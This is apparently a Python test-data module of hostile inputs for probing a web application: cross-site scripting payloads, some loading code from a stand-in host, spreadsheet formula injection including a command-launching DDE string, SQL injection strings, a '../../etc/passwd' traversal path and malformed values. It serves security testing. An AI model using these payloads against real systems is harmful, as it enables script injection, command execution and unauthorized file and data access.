"""What would somebody type to break in? Lists of values, each long enough to count."""

from itertools import product

# Scripts: marked so that whatever of them becomes part of a page can be found there. {n} makes each one its own.
SCRIPTS = [
    "<script>alert({n})</script>",
    "</script><script>alert({n})</script>",
    "<script src=//x.example/{n}.js></script>",
    "<ScRiPt>alert({n})</sCrIpT>",
    "<script/x>alert({n})</script>",
    "<img src=x onerror=alert({n})>",
    "<img src=x onerror='alert({n})'>",
    '"><img src=x onerror=alert({n})>',
    "'><img src=x onerror=alert({n})>",
    "<img/src/onerror=alert({n})>",
    "<img src=`x`onerror=alert({n})>",
    "<svg onload=alert({n})>",
    "<svg/onload=alert({n})>",
    "<svg><script>alert({n})</script></svg>",
    "<svg><animate onbegin=alert({n}) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert({n})><text y=9>x</text></a></svg>",
    "<body onload=alert({n})>",
    "<iframe src=javascript:alert({n})></iframe>",
    "<iframe srcdoc='<script>parent.alert({n})</script>'></iframe>",
    "<object data=javascript:alert({n})></object>",
    "<embed src=javascript:alert({n})>",
    "<a href=javascript:alert({n})>x</a>",
    "<a href='java\tscript:alert({n})'>x</a>",
    "<a href=data:text/html,<script>alert({n})</script>>x</a>",
    "<form action=javascript:alert({n})><button>x</button></form>",
    "<button formaction=javascript:alert({n})>x</button>",
    "<input autofocus onfocus=alert({n})>",
    "<select autofocus onfocus=alert({n})>",
    "<textarea autofocus onfocus=alert({n})>",
    "</textarea><script>alert({n})</script>",
    "</title><script>alert({n})</script>",
    "</option></select><script>alert({n})</script>",
    "</style><script>alert({n})</script>",
    "<style>@import '//x.example/{n}.css'</style>",
    "<link rel=stylesheet href=//x.example/{n}.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert({n})'>",
    "<base href=//x.example/{n}/>",
    "<details open ontoggle=alert({n})>",
    "<video><source onerror=alert({n})></video>",
    "<audio src=x onerror=alert({n})>",
    "<marquee onstart=alert({n})>",
    "<math><mtext><script>alert({n})</script></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert({n})>'>",
    "<template><script>alert({n})</script></template>",
    "<!--><script>alert({n})</script>",
    "<![CDATA[><script>alert({n})</script>",
    '" onmouseover="alert({n})',
    "' onmouseover='alert({n})",
    '" autofocus onfocus="alert({n})',
    '"onfocus=alert({n}) autofocus x="',
    "` onclick=alert({n}) `",
    "javascript:alert({n})",
    "&lt;script&gt;alert({n})&lt;/script&gt;",
    "&#60;script&#62;alert({n})&#60;/script&#62;",
    "\\u003cscript\\u003ealert({n})\\u003c/script\\u003e",
    "%3Cscript%3Ealert({n})%3C/script%3E",
    "{{{{ alert({n}) }}}}",
    "{{% load static %}}{{% debug %}}",
    "${{alert({n})}}",
    "<div hx-get=/ hx-trigger=load hx-on::load=alert({n})>x</div>",
    "<div hx-on:click=alert({n}) data-hx-get=/ >x</div>",
    "<b onclick=alert({n})>[x](javascript:alert({n}))",
    "＜script＞alert({n})＜/script＞",
    "\u202e<img src=x onerror=alert({n})>",
]
SHORT_SCRIPTS = [text for text in SCRIPTS if len(text.format(n=1)) <= 40]  # for short columns

FORMULAS = [
    f"{lead}{sign}{rest}"
    for lead, sign, rest in product(
        ("", " ", "\t", "\n", "\u00a0", "\u200b", "\ufeff"),
        ("=", "+", "-", "@", "＝", "＋", "－", "＠"),
        ("1+1", "cmd|' /C calc'!A0"),
    )
] + ["\rx", '=HYPERLINK("http://x.example")', '";=1+1;"', "=1+1;2", "\x01=1+1", "\u202e=1+1"]

_QUOTES = [
    "'",
    '"',
    "')",
    "';--",
    "' OR '1'='1",
    "1 OR 1=1",
    "1) OR (1=1",
    "\\'",
    "%27",
    "/**/",
    "--",
    ";",
    "1;SELECT 1",
]
_NUMBERS = ["-1", "0", "1e400", "NaN", "inf", str(2**31), str(2**63), str(2**64), "9" * 400, "٣", "１２", "1.5", "0x10"]
_TEXTS = [
    "\x00",
    "a\x00b",
    "\x1b",
    "\u202e",
    "\ud7ff",
    "%",
    "_",
    "%%",
    "\\",
    "\\\\",
    "%00",
    "[]",
    "{}",
    "null",
    "😀",
    "İ",
]
_NAMES = [
    "password",
    "pays__wage_per_hour",
    "client__revenue_records__amount",
    "_connector",
    "__class__",
    "id__in",
    "?",
]
_DATES = ["0000-00-00", "0001-01-01", "9999-12-31", "2026-02-30", "10000-01-01", "-1-01-01", "2026-W54", "2026-13"]
_PATHS = ["../../etc/passwd", "//x.example", "javascript:alert(1)", "http://x.example", "\\\\x.example", "/\\x.example"]
QUERIES = [
    *_QUOTES, *_NUMBERS, *_TEXTS, *_NAMES, *_DATES, *_PATHS, "", " ", "a" * 5000,
    *(f"{name}{quote}" for name, quote in product(_NAMES, _QUOTES)),
    *(f"{sign}{name}" for name, sign in product(_NAMES, ("-", "--", "+", "?", ".", ","))),
    *(f"{number}{quote}" for number, quote in product(_NUMBERS, _QUOTES)),
    *(f"{text}{number}" for text, number in product(_TEXTS, _NUMBERS[:10])),
]  # fmt: skip
